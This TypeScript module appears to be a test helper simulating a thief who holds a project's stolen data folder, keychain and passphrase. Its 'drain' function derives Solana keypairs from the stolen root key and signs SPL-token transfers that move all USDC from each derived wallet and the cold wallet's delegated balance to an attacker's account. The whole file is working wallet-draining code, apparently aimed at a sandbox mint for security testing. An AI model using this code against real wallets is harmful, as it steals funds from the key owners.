// A thief with the data folder, the keychain's content and the passphrase. It asks no treasury: it derives the keys by itself
// and takes with web3.js all USDC that the chain lets those keys move.
import type { KeyObject } from 'node:crypto';
import {
  createTransferCheckedInstruction,
  getAssociatedTokenAddressSync,
  TokenAccountNotFoundError,
  getAccount,
} from '@solana/spl-token';
import { Connection, Keypair, PublicKey, Transaction } from '@solana/web3.js';
import { usdcMints } from '../../../server/contract/treasury/networks.ts';

const mint = new PublicKey(usdcMints.sandbox);
const accountOf = (owner: PublicKey): PublicKey => getAssociatedTokenAddressSync(mint, owner);

const keypairOf = (key: KeyObject): Keypair => {
  const { d = '' } = key.export({ format: 'jwk' });
  return Keypair.fromSeed(Buffer.from(d, 'base64url'));
};

export interface Way {
  rpcUrl: string;
  /** How many wallets it tries. */
  wallets: number;
  /** The cold wallet, which anybody can read from the records or the chain. */
  cold: string;
  /** With a USDC account: gets everything. */
  to: string;
}

/**
 * Takes everything; resolves to the micro-USDC that reached the thief.
 * @param signingKey the key at each index of the stolen root
 */
export const drain = async (
  signingKey: (index: number) => KeyObject,
  { rpcUrl, wallets, cold, to }: Way,
): Promise<bigint> => {
  const connection = new Connection(rpcUrl, 'confirmed');
  const treasury = keypairOf(signingKey(0));
  const purse = accountOf(new PublicKey(to));
  const before = (await getAccount(connection, purse)).amount;
  const take = async (from: PublicKey, authority: Keypair, units: bigint): Promise<void> => {
    if (units === 0n) return;
    const { blockhash } = await connection.getLatestBlockhash();
    const transaction = new Transaction({ feePayer: treasury.publicKey, recentBlockhash: blockhash });
    transaction
      .add(createTransferCheckedInstruction(from, mint, purse, authority.publicKey, units, 6))
      .sign(treasury, ...(authority === treasury ? [] : [authority]));
    // A payment of the treasury may be faster: then less is there.
    const signature = await connection.sendRawTransaction(transaction.serialize(), { skipPreflight: true });
    while ((await connection.getSignatureStatus(signature)).value === null)
      await new Promise((resolve) => setTimeout(resolve, 5));
  };
  // Twice: what a payment kept it from at first, it takes then.
  for (const _ of ['at first', 'once more']) {
    const cut = await read(connection, accountOf(new PublicKey(cold)));
    const isOurs = cut?.delegate?.equals(treasury.publicKey) === true;
    const reach = cut === null || !isOurs ? 0n : least(cut.amount, cut.delegatedAmount);
    await take(accountOf(new PublicKey(cold)), treasury, reach);
    for (let index = 0; index < wallets; index += 1) {
      const keys = index === 0 ? treasury : keypairOf(signingKey(index));
      const from = accountOf(keys.publicKey);
      await take(from, keys, (await read(connection, from))?.amount ?? 0n);
    }
  }
  return (await getAccount(connection, purse)).amount - before;
};

const least = (one: bigint, other: bigint): bigint => (one < other ? one : other);

const read = async (connection: Connection, address: PublicKey) => {
  try {
    return await getAccount(connection, address, 'confirmed');
  } catch (error) {
    if (error instanceof TokenAccountNotFoundError) return null;
    throw error;
  }
};
